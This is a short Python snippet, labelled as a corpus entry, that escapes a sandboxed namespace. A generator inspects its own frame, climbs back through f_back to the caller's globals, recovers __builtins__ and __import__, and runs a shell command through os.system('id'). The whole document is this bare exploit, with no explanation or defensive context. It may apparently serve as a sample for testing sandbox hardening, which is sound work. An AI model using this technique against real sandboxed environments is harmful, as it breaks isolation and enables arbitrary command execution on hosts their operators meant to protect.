# corpus: generator reading its own gi_frame.f_back.f_back.f_globals to escape a sandbox namespace
g = (g.gi_frame.f_back.f_back for _ in [1])
frame = [*g][0]
frame.f_globals["__builtins__"]["__import__"]("os").system("id")
